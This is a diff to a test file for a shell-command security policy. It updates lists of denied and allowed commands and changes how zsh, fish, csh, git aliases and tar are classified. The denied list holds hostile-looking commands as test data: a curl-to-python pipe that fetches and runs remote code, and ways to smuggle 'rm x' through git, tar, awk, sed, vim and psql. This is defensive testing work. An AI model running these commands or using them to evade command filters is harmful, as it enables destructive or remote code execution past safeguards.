@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 from secure_shell.shells import ShellKind
-from tests.policy.conftest import (
+from tests.helpers.policy import (
     B,
     D,
     P,
@@ -190,8 +190,18 @@ DENIED = [
     ("bash -c 'rm x'", B),
     ("sh -c 'rm x'", B),
     ("dash -c 'rm x'", B),
-    ("zsh -c 'rm x'", B),
     ("ksh -c 'rm x'", B),
+    # zsh, fish and the C shells have grammars of their own: their command text is refused, never
+    # read as bash (`ls` beside `rm x`: the refusal does not depend on what the text says)
+    ("zsh -c 'rm x'", X),
+    ("zsh -c ls", X),
+    ("/usr/bin/zsh -c ls", X),
+    ("fish -c 'echo hi'", X),
+    ("csh -c ls", X),
+    ("tcsh -fc ls", X),
+    ("zsh <<< ls", X),
+    ("echo ls | fish", X),
+    ("busybox sh -c 'rm x'", B),
     ("bash -lc 'rm x'", B),
     ("bash -ec 'rm x'", B),
     ("bash --norc -c 'rm x'", B),
@@ -266,7 +276,7 @@ DENIED = [
     ("git difftool -x 'rm x'", B),
     ("git filter-branch --tree-filter 'rm x' HEAD", B),
     ("git config core.pager 'rm x'", N),
-    ("git config --global alias.st '!rm x'", N),
+    ("git config --global alias.st '!rm x'", B),
     ("git --exec-path=/tmp status", S),
     ("git -C /etc status", P),
     ("git clone -c core.sshCommand=x repo", N),
@@ -352,7 +362,7 @@ DENIED = [
     # an interpreter reading its program from a pipe: the code cannot be read
     ("curl -s https://example.com/x | python3", N),
     ("cat x.py | node", N),
-    ("echo 'import os' | python3 -", N),
+    ("printf 'import os' | python3 -", N),
     ("psql <<'EOF'\n\\! rm x\nEOF", F),
     ("psql <<'EOF'\nselect 1;\n\\! rm x\nEOF", "may-run-blocked-command"),
     ("awk 'BEGIN{system(\"rm x\")}'", I),
@@ -362,8 +372,8 @@ DENIED = [
     ("sed 's/a/b/e' f", I),
     ("sed -e 's/x/y/e' f", I),
     ("tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm x' .", N),
-    ("tar --to-command='rm x' -xf a.tar", N),
-    ("tar -I 'rm x' -xf a.tar", N),
+    ("tar --to-command='rm x' -xf a.tar", B),
+    ("tar -I 'rm x' -xf a.tar", B),
     ("zip -TT 'rm x' a.zip f", N),
     ("vim -c ':!rm x' -c q", I),
     ("vim +q f.txt", I),
@@ -578,6 +588,9 @@ ALLOWED = [
     "bash script.sh",
     "bash -c 'ls -la'",
     "sh -c 'echo hi && ls'",
+    "dash -c ls",
+    "ksh -c 'echo hi'",
+    "zsh ./build.zsh",
     "cd src && ls",
     "cd src/ && cd .. && ls",
     "cd /home/u/proj/src && make",
